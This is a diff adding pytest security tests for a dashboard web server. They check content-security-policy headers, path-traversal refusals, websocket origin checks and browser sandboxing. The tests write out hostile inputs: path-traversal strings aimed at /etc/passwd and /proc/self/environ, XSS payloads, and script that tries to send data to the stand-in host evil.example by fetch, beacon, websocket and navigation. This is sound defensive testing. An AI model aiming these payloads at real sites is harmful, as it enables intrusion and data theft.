@@ -1,0 +1,309 @@
+"""What a served page allows, and what a server refuses: asked by a browser, and by visitors who use none."""
+
+from __future__ import annotations
+
+import http.client
+import json
+import re
+from contextlib import closing, contextmanager
+from typing import TYPE_CHECKING, NamedTuple
+from urllib.parse import urlsplit
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+from playwright.sync_api import expect
+
+from explorer.guard import EMBED_IN, MESSAGE_BYTES, URL_CHARACTERS, URL_VALUES, headers
+from tests.browser import start_server, wait_figure, wait_for
+from tests.explore import part, wait_ready
+from tests.tiny_suite import write_tiny_suite
+
+if TYPE_CHECKING:
+    import socket
+    from collections.abc import Callable, Iterator
+    from email.message import Message
+    from pathlib import Path
+
+    from tests.browser import PageOpener, Server
+
+
+@pytest.fixture(scope="module")
+def own_command(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    """Our own command's server, which has answered nothing yet but the question whether it is there."""
+    server = start_server(tmp_path_factory.mktemp("log") / "log", own_command=True)
+    yield server
+    server.stop()
+
+
+@pytest.fixture(params=["panel serve", "absorption-explorer serve"])
+def either(request: pytest.FixtureRequest, server: Server, own_command: Server) -> Server:
+    return server if request.param == "panel serve" else own_command
+
+
+class Answer(NamedTuple):
+    status: int
+    reason: str
+    headers: Message
+    body: bytes
+
+
+def ask(server: Server, path: str, method: str = "GET", **sent: str) -> Answer:
+    """Ask for a path exactly as it is written."""
+    with closing(http.client.HTTPConnection(urlsplit(server.url).netloc, timeout=30)) as connection:
+        connection.putrequest(method, path)
+        for name, value in sent.items():
+            connection.putheader(name.replace("_", "-"), value)
+        connection.endheaders()
+        response = connection.getresponse()
+        return Answer(response.status, response.reason, response.headers, response.read())
+
+
+# --- Headers ---------------------------------------------------------------------------------------------------------
+
+
+def test_pages_carry_their_policy_and_a_nonce_of_their_own(either: Server) -> None:
+    nonces = set()
+    for path in ("/dashboard", "/dashboard?letter=s", "/dashboard?page=nonsense"):
+        response = ask(either, path)
+        page = response.body.decode()
+        assert response.status == 200
+        policy = dict(
+            part.strip().partition(" ")[::2] for part in response.headers["Content-Security-Policy"].split(";")
+        )
+        (nonce,) = re.findall("'nonce-([^']+)'", policy["script-src"])
+        assert policy["script-src"] == f"'nonce-{nonce}' 'strict-dynamic'"
+        assert policy["default-src"] == policy["base-uri"] == policy["form-action"] == "'none'"
+        assert policy["frame-ancestors"] == "'self'"
+        scripts = re.findall("<script[^>]*>", page)
+        assert len(scripts) > 5
+        assert all(f'nonce="{nonce}"' in script for script in scripts)
+        assert response.headers["X-Content-Type-Options"] == "nosniff"
+        assert response.headers["Referrer-Policy"] == "no-referrer"
+        assert "camera=()" in response.headers["Permissions-Policy"]
+        nonces.add(nonce)
+    assert len(nonces) == 3
+
+
+def test_other_sites_may_show_the_page_where_the_owner_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv(EMBED_IN, "https://course.example https://*.lab.example")
+    policy = headers("n")["Content-Security-Policy"]
+    assert policy.endswith("frame-ancestors 'self' https://course.example https://*.lab.example")
+
+
+# --- Requests --------------------------------------------------------------------------------------------------------
+
+_OUTSIDE = ("etc/passwd", "proc/self/environ", "dashboard.py", "pyproject.toml")
+_ABOVE = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "%252e%252e/", "....//", "..;/", "/", "%2f", "file:///")
+
+
+@pytest.mark.parametrize(
+    "place", ["/", "/static/", "/static/js/", "/static/extensions/panel/", "/dashboard/static/", "/components/panel/"]
+)
+def test_no_file_is_reached_by_a_path(either: Server, place: str) -> None:
+    for above in _ABOVE:
+        for file in _OUTSIDE:
+            for times in (1, 3, 12):
+                response = ask(either, f"{place}{above * times}{file}")
+                assert response.status in (301, 302, 400, 403, 404), (place, above, file)
+                assert b"root:" not in response.body
+                assert b"[project]" not in response.body
+                assert b"PATH=" not in response.body
+
+
+def test_no_module_is_imported_by_a_path(either: Server) -> None:
+    before = len(either.output)
+    for path in ("this/s/css", "antigravity/fly/css/x", "explorer.app/Explorer/css/x", "os/environ/_resources/x/y"):
+        assert ask(either, f"/components/{path}").status in (400, 403, 404)
+    assert "Zen of Python" not in either.output[before:]
+
+
+def test_too_much_is_refused_in_words(either: Server) -> None:
+    long = ask(either, f"/dashboard?evidence_token={'x' * URL_CHARACTERS}")
+    assert (long.status, long.reason) == (414, f"Address longer than {URL_CHARACTERS} characters")
+    many = ask(either, "/dashboard?" + "&".join(f"k{number}=1" for number in range(URL_VALUES + 1)))
+    assert (many.status, many.reason) == (400, f"Address with more than {URL_VALUES} values")
+    same = ask(either, "/dashboard?" + "&".join(["letter=s"] * (URL_VALUES + 1)))
+    assert same.status == 400
+    for path in ("/dashboard/autoload.js", "/dashboard/ws", "/dashboard/metadata"):
+        assert ask(either, f"{path}?{'x' * URL_CHARACTERS}=1").status == 414
+    for method in ("POST", "PUT", "DELETE", "PATCH", "TRACE"):
+        assert ask(either, "/dashboard", method, Content_Length="0").status == 405
+    assert "Traceback" not in either.output
+
+
+def test_a_body_is_not_even_read(own_command: Server) -> None:
+    response = ask(own_command, "/dashboard", "POST", Content_Length=str(10 * MESSAGE_BYTES))
+    assert response.status in (400, 413)
+
+
+# --- Websockets ------------------------------------------------------------------------------------------------------
+
+
+@contextmanager
+def websocket(server: Server, origin: str) -> Iterator[tuple[int, socket.socket]]:
+    """Ask for a websocket as a page at `origin` would; yield the status of the answer and what follows it."""
+    page = ask(server, "/dashboard").body.decode()
+    (items,) = re.findall(r"render_items = (\[.*?\]);", page)
+    head = {
+        "Origin": origin,
+        "Connection": "Upgrade",
+        "Upgrade": "websocket",
+        "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==",
+        "Sec-WebSocket-Version": "13",
+        "Sec-WebSocket-Protocol": f"bokeh, {json.loads(items)[0]['token']}",
+    }
+    with closing(http.client.HTTPConnection(urlsplit(server.url).netloc, timeout=30)) as connection:
+        connection.request("GET", "/dashboard/ws", headers=head)
+        sock = connection.sock
+        with connection.getresponse() as response:
+            yield response.status, sock
+
+
+def _status(server: Server, origin: str) -> int:
+    with websocket(server, origin) as (status, _):
+        return status
+
+
+def test_websockets_of_other_sites_are_refused(either: Server) -> None:
+    own = urlsplit(either.url)
+    assert _status(either, either.url) == 101
+    for origin in (
+        "https://evil.example",
+        "null",
+        f"http://evil.example:{own.port}",
+        "http://localhost.evil.example",
+        "",
+    ):
+        assert _status(either, origin) == 403, origin
+
+
+def test_command_takes_this_machine_by_name_and_by_number(own_command: Server) -> None:
+    assert _status(own_command, own_command.url.replace("localhost", "127.0.0.1")) == 101
+
+
+def test_a_message_too_large_ends_its_connection(either: Server) -> None:
+    before = len(either.output)
+    with websocket(either, either.url) as (_, sock):
+        # The head of a text's frame, which says how long the text will be.
+        sock.sendall(b"\x81\xff" + (MESSAGE_BYTES + 1).to_bytes(8, "big") + b"mask")
+        while sock.recv(4096):
+            pass
+    assert "Traceback" not in either.output[before:]
+
+
+# --- In the browser --------------------------------------------------------------------------------------------------
+
+_VIOLATIONS = """
+window.violations = []
+document.addEventListener("securitypolicyviolation", ({violatedDirective, blockedURI}) =>
+  window.violations.push(`${violatedDirective} ${blockedURI}`))
+"""
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize(
+    "query",
+    ["letter=s&latent=1954", "page=compare", "page=compare&compare_by=pair", "page=atlas", "page=evidence"],
+)
+def test_pages_keep_to_their_own_policy(open_page: PageOpener, query: str) -> None:
+    page = open_page(f"/dashboard?{query}")
+    page.context.add_init_script(_VIOLATIONS)
+    page.reload()
+    wait_ready(page)
+    if "latent" in query:
+        part(page, "section").filter(has_text="splits and what absorbs it").scroll_into_view_if_needed()
+        wait_figure(page, "split-absorb-graph")
+        page.get_by_label("Export the graph").click()
+        with page.expect_download():
+            part(page, "export").get_by_role("button", name="PNG").first.click()
+    assert page.evaluate("window.violations") == []
+
+
+@pytest.mark.browser
+def test_a_script_that_gets_into_the_page_does_not_run(open_page: PageOpener) -> None:
+    page = open_page(allow=["Content Security Policy"])
+    wait_ready(page)
+    page.evaluate("""() => {
+      const box = document.querySelector(".ax-main").appendChild(document.createElement("div"))
+      box.innerHTML = `<img src="x" onerror="window.ran = 1"><svg onload="window.ran = 1"></svg>
+        <a id="press" href="javascript:window.ran = 1">press</a>
+        <iframe srcdoc="<script>parent.ran = 1</script>"></iframe>
+        <iframe src="data:text/html,<script>1</script>"></iframe><form action="https://evil.example"></form>`
+      document.getElementById("press").click()
+      // As a page would parse it, not as a script adds it, which a trusted script may.
+      const frame = document.body.appendChild(document.createElement("iframe"))
+      frame.contentDocument.write("<script>parent.ran = 1</script>")
+      frame.contentDocument.close()
+    }""")
+    wait_for(page, "() => new Promise((done) => setTimeout(() => done(true), 100))")
+    assert page.evaluate("window.ran") is None
+
+
+#: What an imported page tries; it writes what came of it into its body.
+_TRIES = """<!DOCTYPE html><body><p id="told"></p><script>
+const tries = {
+  parent: () => parent.document.title,
+  top: () => { top.location = "https://evil.example/" },
+  cookies: () => document.cookie,
+  storage: () => localStorage.length,
+  opened: () => { if (open("https://evil.example/")) return "opened"; throw new Error("no window") },
+  evaluated: () => eval("1"),
+  fetched: () => fetch("/dashboard"),
+  sent: () => fetch("https://evil.example/", {method: "POST", body: "x", mode: "no-cors"}),
+  beacon: () => { navigator.sendBeacon("https://evil.example/", "x"); throw new Error("it does not say") },
+  socket: () => new Promise((done, failed) => {
+    const socket = new WebSocket("ws://evil.example/")
+    socket.onopen = done
+    socket.onerror = () => failed(new Error("shut"))
+  }),
+  image: () => new Promise((done, failed) => {
+    const image = new Image()
+    image.onload = done
+    image.onerror = () => failed(new Error("none"))
+    image.src = "https://evil.example/x.png"
+  }),
+  frame: () => new Promise((done, failed) => {
+    const frame = document.createElement("iframe")
+    frame.src = "https://evil.example/"
+    document.addEventListener("securitypolicyviolation", ({violatedDirective}) => {
+      if (violatedDirective === "frame-src") failed(new Error("no frame"))
+    })
+    document.body.append(frame)
+  }),
+};
+(async () => {
+  const told = {}
+  for (const [name, attempt] of Object.entries(tries)) {
+    try { told[name] = `did: ${await attempt()}` } catch (error) { told[name] = "refused" }
+  }
+  document.getElementById("told").textContent = JSON.stringify(told)
+  document.body.onclick = () => { location = "https://evil.example/?told" }
+})()
+</script></body>"""
+
+
+@pytest.mark.browser
+def test_an_imported_page_draws_and_reaches_nothing(
+    open_page: PageOpener, serve: Callable[..., Server], tmp_path: Path
+) -> None:
+    suite = write_tiny_suite(tmp_path / "tiny", saes=[(3, 4000, 40)], dashboards=True)
+    file = suite / "dashboards.parquet"
+    table = pq.read_table(file)
+    pq.write_table(table.set_column(table.column_names.index("html"), "html", pa.array([_TRIES] * len(table))), file)
+    latent = table.column("latent")[0].as_py()
+    allow = ["Content Security Policy", "sandboxed", "Blocked", "evil.example", "allow-popups"]
+    page = open_page(f"{serve(suite).url}/dashboard?letter=s&latent={latent}", allow=allow)
+    wait_ready(page)
+    page.evaluate("document.addEventListener('securitypolicyviolation', () => { document.violated = true })")
+    page.context.add_cookies([{"name": "secret", "value": "1", "url": page.url}])
+    page.get_by_role("button", name="Show the original page").click()
+    frame = part(page, "original").frame_locator("iframe")
+    expect(frame.locator("#told")).not_to_be_empty()
+    told = json.loads(frame.locator("#told").inner_text())
+    assert told == dict.fromkeys(told, "refused")
+    assert len(told) > 10
+    frame.locator("#told").click()
+    wait_for(page, "() => document.violated")
+    assert urlsplit(page.url).hostname == "localhost"
+    assert [url for url in open_page.external if "evil.example" in url] == []
